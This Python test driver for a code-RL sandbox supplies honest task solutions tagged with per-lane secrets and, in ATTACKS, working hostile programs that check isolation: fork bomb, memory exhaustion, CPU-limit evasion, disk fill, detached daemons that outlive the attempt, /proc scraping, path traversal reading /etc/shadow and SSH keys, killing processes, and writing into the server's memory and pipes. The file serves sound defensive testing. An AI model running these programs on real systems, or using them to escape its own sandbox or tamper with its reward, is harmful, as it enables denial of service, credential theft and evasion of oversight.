"""The driver's actions: honest solutions to each task of env/tasks.py (right, slow, partly
wrong, broken), and hostile programs, one per attack.

Every honest solution carries its lane's secret (a comment), so a hostile program that
could read another lane's workspace would print it into its own observation: run.py looks
for every lane's secret in every other lane's observations.
"""

from __future__ import annotations

import importlib.util
from pathlib import Path


def _tasks():
    """env/tasks.py, the env's own module (the driver runs beside the env, not in it)."""
    spec = importlib.util.spec_from_file_location("code_rl_tasks", Path(__file__).parent / "env" / "tasks.py")
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


# The right answers: each task's reference, the solution its speed reward is measured against.
CORRECT = {name: task["reference"] for name, task in _tasks().TASKS.items()}

# Right answers, slowly: what the speed variant should reward below 1.
SLOW = {
    "add": "def add(a, b):\n    for _ in range(50):\n        pass\n    return a + b\n",
    "is_prime": "def is_prime(n):\n    return n >= 2 and all(n % f for f in range(2, n))\n",
    "fib": (
        "def fib(n):\n    memo = [0, 1]\n    for i in range(2, n + 1):\n"
        "        memo.append(sum(memo[-2:]))\n    return memo[n] if n else 0\n"
    ),
    "reverse_words": (
        "def reverse_words(s):\n    words = []\n    for w in s.split():\n        words.insert(0, w)\n"
        "    return ' '.join(words)\n"
    ),
    "dedupe": "def dedupe(xs):\n    out = []\n    for x in xs:\n        if x not in out:\n            out.append(x)\n    return out\n",
}

# Wrong on some tests, right on others.
PARTLY = {
    "add": "def add(a, b):\n    return int(a) + int(b)\n",
    "is_prime": "def is_prime(n):\n    return n > 1 and all(n % f for f in range(2, min(n, 8)))\n",
    "fib": "def fib(n):\n    a, b = 0, 1\n    for _ in range(min(n, 20)):\n        a, b = b, a + b\n    return a\n",
    "reverse_words": "def reverse_words(s):\n    return ' '.join(reversed(s.split(' ')))\n",
    "dedupe": "def dedupe(xs):\n    return sorted(set(xs), key=list(xs).index) if len(xs) < 100 else list(xs)\n",
}

BROKEN = "def {name}(*args):\n    raise NotImplementedError('{name}')\n"

VARIANTS = ("correct", "partly", "broken", "slow")
# The share of honest first attempts that fail their tests (so the episode takes a second attempt).
FIRST_ATTEMPT_FAILS = sum(v in ("partly", "broken") for v in VARIANTS) / len(VARIANTS)


def honest(task: str, lane: int, episode: int, attempt: int, secret: str) -> str:
    """Lane `lane`'s action: on a first attempt one of the variants (the same for a lane and
    episode in every run), then the right answer, as a policy that read the log would."""
    variant = VARIANTS[(lane * 7 + episode * 3) % len(VARIANTS)] if attempt == 0 else "correct"
    if variant == "correct":
        source = CORRECT[task]
    elif variant == "slow":
        source = SLOW[task]
    elif variant == "partly":
        source = PARTLY[task]
    else:
        source = BROKEN.format(name=task)
    return f"# lane-secret: {secret}\n{source}"


# Each attack is a program; a {name} that is a key of the driver's context is replaced by the
# repr of its value (run.py's attack context), other braces are the program's own.
ATTACKS = {
    # Forks until the lane's pids limit refuses (EAGAIN), every process spinning on: the env's
    # CPU watch (the attempt's processes together) or the pool's cpu_budget ends it.
    "fork_bomb": """
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
""",
    # Takes memory until the lane's memory_limit: the kernel's OOM killer ends it, in its lane (or
    # the CPU limit first: the kernel zeroes every page it is given).
    "memory_balloon": """
hoard = []
while True:
    hoard.append(bytearray(16 << 20))
""",
    # An infinite loop: the env's CPU limit.
    "cpu_spin": """
while True:
    pass
""",
    # The same loop, by code that tries to slip the limits first: ignores SIGXCPU, tries to raise
    # its RLIMIT_CPU, deletes any CPU timer of its own, renices itself and tries to leave
    # SCHED_IDLE. The env's limits are the server's, on the attempt's processes' CPU clocks, which
    # it cannot reach.
    "timer_evasion": """
import ctypes, os, resource, signal
signal.signal(signal.SIGXCPU, signal.SIG_IGN)
try:
    resource.setrlimit(resource.RLIMIT_CPU, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
except (ValueError, OSError) as exc:
    print("rlimit:", exc)
libc = ctypes.CDLL(None)
for timer in range(4):
    libc.timer_delete(ctypes.c_void_p(timer))
try:
    os.nice(-20)
except OSError as exc:
    print("nice:", exc)
try:
    os.sched_setscheduler(0, os.SCHED_OTHER, os.sched_param(0))
except OSError as exc:
    print("sched_setscheduler:", exc)
while True:
    pass
""",
    # Fills its workspace and /dev/shm (one tmpfs of workspace_size) with bytes, then with empty
    # files (its inode cap): ENOSPC, in its own lane only; the files stay until a scrub.
    "workspace_fill": """
import os
for where in (".", "/dev/shm", "/tmp"):
    try:
        with open(os.path.join(where, "fill.bin"), "ab") as f:
            while True:
                f.write(bytes(1 << 20))
    except OSError as exc:
        print("fill", where, exc)
made = 0
try:
    while True:
        open(f"/workspace/empty-{made}", "w").close()
        made += 1
except OSError as exc:
    print("files", made, exc)
""",
    # A daemon: double fork, setsid (so the attempt's process-group kill misses it), then it
    # keeps writing files, forever. It lives until the lane's scrub or hard reset.
    "background_writer": """
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        i = 0
        while True:
            for path in (f"/workspace/daemon-{i % 50}.txt", f"/dev/shm/daemon-{i % 5}"):
                try:
                    with open(path, "w") as f:
                        f.write("still here\\n" * 100)
                except OSError:
                    pass
            i += 1
            time.sleep(0.02)
    os._exit(0)
os.wait()  # the daemon is on its own before this attempt ends (its process group is killed then)
""",
    # The same daemon, spinning: CPU taken from every other lane until the scrub, unless the pool's
    # cpu_budget (or under serialize_measurement=True, the freezer) stops it first.
    "background_spinner": """
import os
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        while True:
            pass
    os._exit(0)
os.wait()  # the daemon is on its own before this attempt ends (its process group is killed then)
""",
    # Every process it can see, their roots, cwds and environments; some other lanes' host pids.
    "proc_walk": """
import os
secrets = set()
def look(path):
    try:
        for root, dirs, files in os.walk(path):
            for name in files:
                try:
                    with open(os.path.join(root, name), "rb") as f:
                        data = f.read(1 << 16)
                except OSError:
                    continue
                for line in data.split(b"\\n"):
                    if b"lane-secret" in line:
                        secrets.add(line.decode("utf-8", "replace"))
    except OSError as exc:
        print(path, exc)
for pid in sorted(p for p in os.listdir("/proc") if p.isdigit()):
    for what in ("root", "cwd"):
        try:
            print(pid, what, sorted(os.listdir(f"/proc/{pid}/{what}"))[:12])
        except OSError as exc:
            print(pid, what, exc)
    look(f"/proc/{pid}/root/workspace")
for pid, lane in {others}:
    for path in (f"/proc/{pid}/root/workspace", f"/proc/{pid}/cwd", f"/proc/{pid}/environ"):
        try:
            print("host pid", pid, path, os.listdir(path) if "environ" not in path else open(path).read()[:200])
        except OSError as exc:
            print("host pid", pid, path, type(exc).__name__)
        look(path)
print("secrets found:", sorted(secrets))
""",
    # ../ out of the workspace: read what is up there, write where it should not.
    "dotdot": """
import os
for path in ("..", "../..", "../../..", "/workspace/../..", "/env/..", "../../../../root", "../../../../home",
             "../../../../tmp", "../../../../var", "../../../../run"):
    try:
        print("ls", path, sorted(os.listdir(path))[:20])
    except OSError as exc:
        print("ls", path, type(exc).__name__)
for path in ("../../../../etc/shadow", "../../../../etc/passwd", "../../../../root/.bash_history",
             "../../../../etc/hostname"):
    try:
        print("read", path, open(path).read(80))
    except OSError as exc:
        print("read", path, type(exc).__name__)
for path in ("../../../../tmp/code-rl-was-here", "../../env/code-rl-was-here", "/opt/code-rl-was-here",
             "/usr/code-rl-was-here", "../../../../etc/code-rl-was-here"):
    try:
        open(path, "w").write("pwned")
        print("WROTE", path)
    except OSError as exc:
        print("write", path, type(exc).__name__)
""",
    # Where another lane's files could be: by some other lanes' host pids and their run directories,
    # and every directory this lane can reach, looking for any lane's secret.
    "other_lanes": """
import os
found = set()
for top in ("/workspace", "/tmp", "/dev/shm", "/env", "/run", "/var", "/home", "/proc/1/root/workspace"):
    try:
        for root, dirs, files in os.walk(top):
            for name in files:
                try:
                    with open(os.path.join(root, name), "rb") as f:
                        for line in f.read(1 << 16).split(b"\\n"):
                            if b"lane-secret" in line:
                                found.add(line.decode("utf-8", "replace"))
                except OSError:
                    pass
    except OSError as exc:
        print(top, exc)
for pid, lane in {others}:
    for path in (f"/proc/{pid}/root/workspace/run-{lane}/solution.py", f"/workspace/run-{lane}/solution.py",
                 f"../run-{lane}/solution.py"):
        try:
            found.add(open(path).read(200))
        except OSError:
            pass
print("secrets found:", sorted(found))
""",
    # The trainer's files and environment: a canary file of the trainer's, its repository's .git,
    # its home, /etc/shadow; and a write into the canary and the repository.
    "trainer_files": """
import os
for path in ({canary}, {git_config}, {git_head}, os.path.expanduser("~/.ssh/id_rsa"), "/root/.bash_history",
             "/etc/shadow", "/etc/passwd"):
    try:
        print("read", path, open(path).read(200))
    except OSError as exc:
        print("read", path, type(exc).__name__)
for path in ({canary}, {repo_file}):
    try:
        with open(path, "a") as f:
            f.write("pwned")
        print("WROTE", path)
    except OSError as exc:
        print("write", path, type(exc).__name__)
print("environment:", dict(os.environ))
""",
    # SIGKILL to every process it may signal, and to its parent (the env's server): in exec mode the
    # server dies (its lane fails and is respawned at its reset); in template mode it is its lane's
    # pid 1, which no signal from inside reaches.
    "signal_all": """
import os, signal
for target in (-1, os.getppid(), 1):
    try:
        os.kill(target, signal.SIGKILL)
        print("sent SIGKILL to", target)
    except OSError as exc:
        print("kill", target, exc)
""",
    # Rewrites its server's memory through /proc (writable in template mode), to take the server
    # over: its own lane's rewards, and a scrub it could skip. The server is not dumpable: EACCES.
    "server_takeover": """
import os
ppid = os.getppid()
for path, mode in ((f"/proc/{ppid}/mem", "r+b"), (f"/proc/{ppid}/environ", "rb"), (f"/proc/{ppid}/maps", "rb")):
    try:
        with open(path, mode, buffering=0) as f:
            print("opened", path, mode, f.read(64) if "mem" not in path else "")
    except OSError as exc:
        print("open", path, mode, type(exc).__name__)
""",
    # Writes garbage into every fd it has and, through /proc, into the server's: the pool's channel
    # among them (refused: EACCES), and its own attempt's result pipe (garbled: no result).
    "forge_channel": """
import os
for fd in range(3, 12):
    try:
        os.write(fd, bytes(64))
        print("wrote own fd", fd)
    except OSError as exc:
        print("own fd", fd, type(exc).__name__)
for fd in range(3, 8):
    try:
        w = os.open(f"/proc/{os.getppid()}/fd/{fd}", os.O_WRONLY | os.O_NONBLOCK)
        os.write(w, b"\\x00\\x00\\x00\\x08" + b"\\xc1" * 8)
        print("wrote into the server's fd", fd)
    except OSError as exc:
        print("server fd", fd, type(exc).__name__)
""",
}

# What each attack is expected to come to, on its own lane (run.py checks it; the test asserts it):
# a pool-level failure (info["error"]) or the env's outcome of the attempt (info["outcome"]).
EXPECTED = {
    "fork_bomb": ("CPU limit", "cpu_budget"),
    "memory_balloon": ("killed by SIGKILL", "OOM", "CPU limit"),  # zeroing pages costs CPU: whichever comes first
    "cpu_spin": ("CPU limit", "cpu_budget"),
    "timer_evasion": ("CPU limit", "cpu_budget"),
    "workspace_fill": ("ran", "could not write", "CPU limit"),  # 16 MiB written costs CPU: whichever comes first
    # Its daemon writes while the attempt runs, and the env's CPU limit counts every process of the
    # lane: on a loaded node the attempt lasts longer in wall time, and the daemon's writes can tip it.
    "background_writer": ("ran", "CPU limit"),
    "background_spinner": ("ran", "CPU limit", "cpu_budget"),
    "proc_walk": ("ran",),
    "dotdot": ("ran",),
    "other_lanes": ("ran",),
    "trainer_files": ("ran",),
    "signal_all": ("ran", "lane: died"),  # the server is pid 1 of its lane in template mode: signals do not reach it
    "server_takeover": ("ran",),
    "forge_channel": ("ran", "exited without a result"),  # the channel's fds cannot be opened: only its own result
}


def attack(kind: str, context: dict) -> str:
    """The source of attack `kind`, with each {key} of `context` replaced by the repr of its value."""
    source = ATTACKS[kind]
    for key, value in context.items():
        source = source.replace("{" + key + "}", repr(value))
    return source
